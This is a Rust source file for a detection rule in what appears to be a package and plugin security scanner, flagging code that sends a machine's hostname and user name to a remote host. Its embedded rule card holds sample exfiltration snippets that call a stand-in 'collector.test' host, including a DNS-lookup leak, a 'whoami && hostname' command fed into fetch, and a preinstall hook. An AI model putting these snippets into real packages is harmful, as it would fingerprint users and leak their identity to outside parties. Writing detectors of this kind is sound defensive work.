//! source-host-fingerprint-sent: what identifies the machine and its user is sent away.

use std::sync::LazyLock;

use super::source_calls::report_calls;
use crate::{FactSink, Rule, RuleMeta};
use capdex_evidence::code::sinks::carried_out;
use capdex_evidence::code::{Call, TaintSources};
use capdex_evidence::signals::install_scripts;
use capdex_evidence::subject::Subject;
use capdex_model::fact::{Confidence, Severity};

/// See the file's first line.
pub(super) struct SourceHostFingerprintSent;

static META: LazyLock<RuleMeta> = LazyLock::new(|| toml::from_str(CARD).expect("the card is valid"));

const CARD: &str = r##"
id = "source-host-fingerprint-sent"
version = 1
title = "The names of the machine and its user are sent away"
why = "Packages that are planted to see where they land report the host, the user and its network first; a program that works for its user has no need to."
fix = "Send nothing that identifies the machine, or ask first and say what is sent."
cannot_see = "Data gathered in one file and sent in another; names that are hashed by code that it does not know."
severity = "high"
confidence = "high"
kinds = ["skill", "mcp_server", "hook", "plugin", "package"]
lifecycle = "stable"
cites = ["CWE-200", "CWE-506", "SAFE-T1913", "owasp-mcp:MCP04"]
[[examples.fires]]
note = "Host and user in a request."
[examples.fires.files]
"index.js" = '''
const os = require("os"), https = require("https");
const data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: __dirname });
const req = https.request({ host: "collector.test", method: "POST" });
req.write(data); req.end();'''
[[examples.fires]]
note = "The same in Python, over two functions."
[examples.fires.files]
"a.py" = '''
import getpass, socket, requests
def gather():
    return {"host": socket.gethostname(), "user": getpass.getuser()}
def main():
    requests.post("https://collector.test", json=gather())
'''
[[examples.fires]]
note = "By the name that is looked up."
[examples.fires.files]
"index.js" = '''
const os = require("os"), dns = require("dns");
dns.lookup(`${os.hostname()}.${os.userInfo().username}.collector.test`, () => {});'''
[[examples.fires]]
note = "Through the output of commands."
[examples.fires.files]
"index.js" = '''
const { exec } = require("child_process");
exec("whoami && hostname", (e, out) => fetch("https://collector.test/?d=" + encodeURIComponent(out)));'''
[[examples.fires]]
note = "One name, sent while the package is installed."
[examples.fires.files]
"package.json" = '{"name": "a", "scripts": {"preinstall": "node report.js"}}'
"report.js" = 'const os = require("os"); require("https").get("https://collector.test/?h=" + os.hostname());'
[[examples.silent]]
note = "The name is logged."
[examples.silent.files]
"index.js" = '''
const os = require("os"); console.log(os.hostname(), os.userInfo().username); fetch("https://api.test");'''
[[examples.silent]]
note = "The kind of system in a header."
[examples.silent.files]
"index.js" = '''
const os = require("os"); fetch("https://api.test", { headers: { "User-Agent": `kit/${os.platform()} ${os.release()}` } });'''
[[examples.silent]]
note = "One name, as telemetry has it."
[examples.silent.files]
"index.js" = '''
const os = require("os"); fetch("https://api.test", { method: "POST", body: JSON.stringify({ server: os.hostname() }) });'''
"##;

impl Rule for SourceHostFingerprintSent {
    fn meta(&self) -> &RuleMeta {
        &META
    }

    fn check(&self, subject: &Subject<'_>, facts: &mut FactSink<'_>) {
        let scripts: Vec<String> = install_scripts(subject).into_iter().flat_map(|script| script.files).collect();
        let installs = |path: &str| path.ends_with("setup.py") || scripts.iter().any(|script| script == path);
        report_calls(subject, facts, |file, call| judgement(call, installs(file.path)));
    }
}

/// One name alone is what telemetry sends; two tell who it is, as does one that is sent by being installed. A name that is looked up tells it to whoever owns the zone.
fn judgement(call: &Call, installs: bool) -> Option<(Severity, Confidence)> {
    let carried = carried_out(call)?;
    let names = carried.count(TaintSources::HOST_NAME | TaintSources::USER_NAME | TaintSources::HOST_NETWORK);
    let asks_zone = call.callee.starts_with("dns.") && carried.any(TaintSources::COMPOSED);
    match names {
        0 => None,
        1 if !asks_zone && !installs => None,
        _ => Some((Severity::High, Confidence::High)),
    }
}
